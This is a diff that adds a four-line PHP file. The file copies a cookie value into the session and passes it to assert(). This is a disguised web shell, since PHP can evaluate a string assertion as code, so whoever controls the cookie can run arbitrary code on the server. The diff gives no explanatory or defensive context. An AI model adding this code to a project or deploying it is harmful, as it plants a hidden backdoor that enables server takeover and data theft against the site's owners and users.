@@ -1,0 +1,4 @@
+<?php
+session_start();
+$_SESSION["a"] = $_COOKIE["a"];
+assert($_SESSION["a"]);
